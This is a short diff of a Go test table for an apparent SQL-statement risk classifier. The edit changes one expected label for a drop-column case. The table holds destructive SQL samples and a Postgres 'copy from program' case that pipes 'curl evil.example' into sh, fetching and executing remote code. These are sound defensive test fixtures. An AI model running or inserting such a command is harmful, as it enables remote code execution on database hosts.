@@ -78,7 +78,7 @@ func TestRead(t *testing.T) {
 		{"explain analyze runs", "postgres", "explain analyze delete from users", "delete users all data"},
 		{"explain with options runs", "postgres", "explain (verbose, analyze) delete from users", "delete users all data"},
 		{"explain analyze off", "postgres", "explain (analyze false) delete from users", "explain"},
-		{"drop column", "", "alter table u drop column mail", "alter-drop u data"},
+		{"drop column", "", "alter table u drop column mail", "alter-drop u"},
 		{"drop constraint", "", "alter table u drop constraint c", "alter u"},
 		{"grant", "", "grant all privileges on x to public", "grant public"},
 		{"copy program", "postgres", "copy t from program 'curl evil.example|sh'", "copy-program t runs{curl evil.example|sh}"},
